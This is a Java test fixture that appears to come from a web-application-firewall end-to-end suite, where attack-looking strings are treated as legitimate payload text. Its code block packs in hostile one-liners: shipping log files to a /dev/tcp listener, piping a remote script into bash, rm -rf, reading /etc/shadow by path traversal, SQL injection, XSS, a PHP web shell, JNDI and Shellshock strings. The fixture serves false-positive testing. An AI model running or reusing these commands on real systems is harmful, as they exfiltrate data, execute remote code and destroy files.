package dev.missionmesh.endtoend.waf;

import java.util.List;

/** Text with every right to be there. */
final class Payloads {
  /** A program, or what one works on: each line is an attack anywhere else. */
  static final String CODE =
      """
      #!/bin/bash
      set -euo pipefail; for f in $(find / -name '*.log' | xargs grep -l "SELECT * FROM users WHERE id='1' OR 1=1"); do cat "$f" > /dev/tcp/10.0.0.1/4444; done
      curl -s http://192.0.2.7/x.sh | bash; rm -rf /tmp/x; cat /etc/passwd ../../../../etc/shadow; wget `hostname`
      python3 -c 'import os; os.system("id")'; node -e 'require("child_process").exec("id")'
      psql -c "DROP TABLE x; SELECT pg_sleep(10) UNION ALL SELECT password FROM users; --"
      <script>alert(document.cookie)</script><img src=x onerror=alert(1)><?php system($_GET['c']); ?>
      ${jndi:ldap://x} () { :; }; java.lang.Runtime.getRuntime().exec("id") rO0ABXNyABFq 😀🚀 Ärger
      """;

  /** What people look for in the output of programs. */
  static final List<String> SEARCHES =
      List.of(
          "java.lang.NullPointerException",
          "cat /etc/passwd: Permission denied",
          "SELECT * FROM users WHERE id = 1 OR 1=1",
          "bash: line 1: foo: command not found",
          "/var/log/nginx/error.log",
          "rm -rf /tmp",
          "C# & <= 5",
          "don't");

  private Payloads() {}
}
